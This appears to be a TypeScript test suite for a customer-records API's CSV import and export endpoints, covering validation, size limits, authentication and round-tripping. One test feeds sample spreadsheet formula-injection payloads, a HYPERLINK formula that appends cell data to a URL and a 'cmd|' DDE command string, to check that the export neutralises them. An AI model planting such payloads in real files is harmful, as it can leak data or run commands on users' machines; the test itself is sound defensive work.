import { afterAll, beforeAll, describe, expect, test } from 'bun:test';
import { sql } from 'drizzle-orm';
import Papa from 'papaparse';
import { bunOnly, seedCustomer, startTestApi, type TestApi } from '../testing/test-api';

let api: TestApi;
beforeAll(async () => {
  api = await startTestApi();
});
afterAll(() => api.close());

const importCsv = (body: string | Blob, contentType = 'text/csv; charset=utf-8') =>
  fetch(`${api.base}/api/customer/import/`, {
    method: 'POST',
    headers: { authorization: `Token ${api.token}`, 'content-type': contentType },
    body,
  });

const header = 'name,email,customer_type,lead_source,customer_industry,follow_up_status,principal,company_details';

interface Report {
  created: number;
  rows: number;
  error_count: number;
  errors: { line: number; errors: Record<string, string[]> }[];
}

describe('POST /api/customer/import/', () => {
  test('creates the good rows and reports each bad one by line, in DRF words', async () => {
    const csv = [
      header,
      'Import One,one@example.com,A,referral,finance,proposal,Importer,"Acme, Inc."',
      ',bad,B,nowhere,finance,proposal,Importer,',
      '"Import\nTwo",,C,partner,retail,closed_won,Importer,"说 ""你好"""',
    ].join('\n');
    const res = await importCsv(csv);
    expect(res.status).toBe(200);
    const report = (await res.json()) as Report;
    expect(report).toMatchObject({ created: 2, rows: 3, error_count: 1 });
    expect(report.errors).toEqual([
      {
        line: 3,
        errors: {
          name: ['This field may not be blank.'],
          email: ['Enter a valid email address.'],
          lead_source: ['"nowhere" is not a valid choice.'],
        },
      },
    ]);
    const search = await api.call('GET', '/api/customer/customers/?principal=Importer&ordering=name');
    const { results } = (await search.json()) as { results: { name: string; company_details: string }[] };
    expect(results.map((row) => row.name).sort()).toEqual(['Import\nTwo', 'Import One']);
    expect(results.find((row) => row.name === 'Import\nTwo')?.company_details).toBe('说 "你好"');
  });

  test('takes a body above the 64 KB JSON limit', async () => {
    const rows = Array.from(
      { length: 1500 },
      (_, i) => `Bulk ${i},bulk${i}@example.com,D,other,other,initial_contact,Bulk Importer,${'x'.repeat(40)}`,
    );
    const body = [header, ...rows].join('\r\n');
    expect(body.length).toBeGreaterThan(64 * 1024);
    const res = await importCsv(body);
    expect(res.status).toBe(200);
    expect(((await res.json()) as Report).created).toBe(1500);
  });

  test('answers 400 for a header without the required columns, and creates nothing', async () => {
    const res = await importCsv('first,second\nAnn,x\n');
    expect(res.status).toBe(400);
    const body = (await res.json()) as { detail: string };
    expect(body.detail).toContain('lacks the required column(s) name, customer_type');
  });

  test('takes a header without rows, and refuses a bad header even without rows', async () => {
    const empty = await importCsv(`${header}\r\n`);
    expect(empty.status).toBe(200);
    expect((await empty.json()) as Report).toMatchObject({ created: 0, rows: 0, errors: [] });
    const bad = await importCsv('name,email\n');
    expect(bad.status).toBe(400);
  });

  test('answers 400 for an empty file', async () => {
    const res = await importCsv('');
    expect(res.status).toBe(400);
    expect(((await res.json()) as { detail: string }).detail).toContain('empty');
  });

  test('answers 415 for a body that is not CSV', async () => {
    const res = await importCsv(JSON.stringify([seedCustomer()]), 'application/json');
    expect(res.status).toBe(415);
    expect(((await res.json()) as { detail: string }).detail).toContain('text/csv');
  });

  test('answers 413 for a file over 20 MB', async () => {
    const res = await importCsv(new Blob([new Uint8Array(20 * 1024 * 1024 + 1).fill(65)]));
    expect(res.status).toBe(413);
    expect(((await res.json()) as { detail: string }).detail).toContain('20 MB');
  });

  test('answers 401 without a key', async () => {
    const res = await fetch(`${api.base}/api/customer/import/`, {
      method: 'POST',
      headers: { 'content-type': 'text/csv' },
      body: `${header}\n`,
    });
    expect(res.status).toBe(401);
  });
});

describe('GET /api/customer/export/', () => {
  test('streams every matching customer as CSV with a download name, filtered like the search', async () => {
    await api.call('POST', '/api/customer/customers/', seedCustomer({ name: 'Export A', principal: 'Exporter' }));
    await api.call(
      'POST',
      '/api/customer/customers/',
      seedCustomer({ name: 'Export B, "quoted"', customer_type: 'B', principal: 'Exporter' }),
    );
    const res = await api.call('GET', '/api/customer/export/?principal=Exporter&customer_type=all');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(res.headers.get('content-disposition')).toMatch(/^attachment; filename="customers-\d{4}-\d\d-\d\d\.csv"$/);
    const bytes = new Uint8Array(await res.arrayBuffer());
    // A BOM, so spreadsheet programs read the UTF-8 as UTF-8 (a decoder drops it).
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder().decode(bytes);
    expect(text.startsWith('id,name,landline,')).toBe(true);
    const rows = Papa.parse<Record<string, string>>(text.trim(), { header: true }).data;
    expect(rows.map((row) => row.name)).toEqual(['Export A', 'Export B, "quoted"']);
    expect(rows[0]?.id).toMatch(/^\d+$/);
    expect(rows[0]?.last_contact_at).toBe('');

    const onlyB = await api.call('GET', '/api/customer/export/?principal=Exporter&customer_type=B');
    const bRows = Papa.parse<Record<string, string>>((await onlyB.text()).trim(), { header: true }).data;
    expect(bRows.map((row) => row.name)).toEqual(['Export B, "quoted"']);
  });

  test('exports more than one page of rows', async () => {
    const res = await api.call('GET', '/api/customer/export/?principal=Bulk%20Importer');
    expect(res.status).toBe(200);
    const lines = (await res.text()).trim().split('\r\n');
    expect(lines).toHaveLength(1501);
  });

  test('answers 400 for an unknown choice, as the search does', async () => {
    const res = await api.call('GET', '/api/customer/export/?customer_type=Z');
    expect(res.status).toBe(400);
    expect(await res.json()).toEqual({ customer_type: ['"Z" is not a valid choice.'] });
  });

  test('neutralises cells a spreadsheet would run as formulas; the file imports back to the same values', async () => {
    const principal = 'Formula Exporter';
    const risky = [
      {
        name: '=HYPERLINK("https://example.com/x?"&A1,"Click")',
        landline: '+61 2 9999 0000',
        mobile_phone: '-0404 730 855',
      },
      { name: '@SUM(1+1)*cmd|" /C calc"!A0', company_details: '-5', address: '+1' },
      { name: "'=already quoted", company_details: "'tis the season", address: '-' },
      { name: 'Plain Name', company_details: '1-2-3', address: 'a=b' },
    ];
    for (const fields of risky) {
      const res = await api.call('POST', '/api/customer/customers/', seedCustomer({ ...fields, principal }));
      expect(res.status).toBe(201);
    }
    const text = await (
      await api.call('GET', `/api/customer/export/?principal=${encodeURIComponent(principal)}`)
    ).text();
    // Quoted, with the apostrophe inside the quotes, as OWASP recommends.
    expect(text).toContain(`"'=HYPERLINK(""https://example.com/x?""&A1,""Click"")"`);
    expect(text).toContain(`"'+61 2 9999 0000",johndoe@example.com,"'-0404 730 855"`);
    expect(text).toContain(`"'@SUM(1+1)*cmd|"" /C calc""!A0"`);
    expect(text).toContain(`"''=already quoted"`);
    const cells = Papa.parse<string[]>(text.replace(/^\uFEFF/, '').trim()).data.flat();
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);

    const res = await importCsv(text);
    expect((await res.json()) as Report).toMatchObject({ created: risky.length, error_count: 0 });
    const search = await api.call(
      'GET',
      `/api/customer/customers/?principal=${encodeURIComponent(principal)}&page_size=50`,
    );
    const { results } = (await search.json()) as { results: Record<string, unknown>[] };
    const fields = ['name', 'landline', 'mobile_phone', 'company_details', 'address'];
    const values = (row: Record<string, unknown>) => Object.fromEntries(fields.map((field) => [field, row[field]]));
    expect(results).toHaveLength(risky.length * 2);
    for (const original of risky) {
      const copies = results.filter((row) => row.name === original.name).map(values);
      expect(copies).toHaveLength(2);
      expect(copies[0]).toEqual(copies[1] ?? {});
      expect(copies[0]).toMatchObject(original);
    }
  });

  test('an exported file imports again', async () => {
    const exported = await (await api.call('GET', '/api/customer/export/?principal=Exporter')).text();
    const res = await importCsv(exported);
    expect(res.status).toBe(200);
    expect((await res.json()) as Report).toMatchObject({ created: 2, error_count: 0 });
  });
});

bunOnly('breaks the database under its own server', () => {
  test('an export whose query the database refuses is an error answer, not a 200 cut short', async () => {
    const broken = await startTestApi();
    try {
      // The search index gone: `q=` cannot run. (No request can do this; a damaged file could.)
      await broken.database.db.run(sql`DROP TABLE customers_fts`);
      const res = await broken.call('GET', '/api/customer/export/?q=anything');
      expect(res.status).toBe(500);
      expect(await res.json()).toEqual({ detail: 'Internal server error.' });
    } finally {
      await broken.close();
    }
  });
});
